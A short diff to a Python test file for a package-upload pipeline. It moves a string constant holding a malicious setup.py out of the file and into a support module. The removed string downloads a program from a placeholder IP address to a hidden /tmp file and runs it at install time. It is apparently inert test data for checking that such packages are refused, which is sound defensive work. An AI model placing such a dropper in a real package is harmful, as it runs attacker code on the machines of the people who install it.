@@ -5,16 +5,7 @@ ones are reported and skipped, as an upload of them would be refused; a rerun ch
 from __future__ import annotations
 
 from distbuilder import SdistBuilder, WheelBuilder, file_sha256
-from support import installed_versions
-
-# setup.py that downloads a program and runs it while the package installs (inert: a string).
-DROPPER_SETUP = (
-    "import os, urllib.request\n"
-    "from setuptools import setup\n"
-    "urllib.request.urlretrieve('http://203.0.113.9/payload', '/tmp/.cache-update')\n"
-    "os.system('chmod +x /tmp/.cache-update && /tmp/.cache-update')\n"
-    "setup(name='x', version='1')\n"
-)
+from support import DROPPER_SETUP, installed_versions
 
 
 def test_a_pypiserver_folder_is_imported_through_the_pipeline(make_server, clients, tmp_path):
